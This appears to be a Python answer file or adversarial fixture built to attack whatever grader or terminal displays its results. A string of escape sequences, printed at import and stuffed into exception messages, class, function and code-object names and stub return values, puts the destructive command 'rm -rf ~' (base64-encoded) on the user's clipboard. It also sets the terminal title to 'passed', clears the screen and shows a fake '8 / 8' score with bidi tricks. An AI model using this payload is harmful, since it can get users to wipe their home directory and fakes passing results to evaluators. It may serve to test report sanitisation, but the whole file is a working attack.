"""Writes to the terminal by every text that a report shows: clipboard, title, cursor, direction of writing."""

HONEST = 0
EVIL = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;passed\x07\x1b[2J\x1b[1;1H\x9b31m\u202e\u2066\r\b\x7f 8 / 8 \u2028" * 40
globals()[EVIL] = print
print(EVIL)


class Evil(Exception):
    def __str__(self):
        return EVIL


Evil.__name__ = Evil.__qualname__ = EVIL
exec(compile(f"def softmax(x, dim):\n    raise Evil  # {EVIL!r}", "answer.py", "exec"))
softmax.__code__ = softmax.__code__.replace(co_name=EVIL)


def linear_backward(grad_output, x, weight, bias):
    return {EVIL: x, "b": EVIL}


def count(inputs, outputs):
    return EVIL


def central(f, x, h):
    return type(EVIL, (), {})()
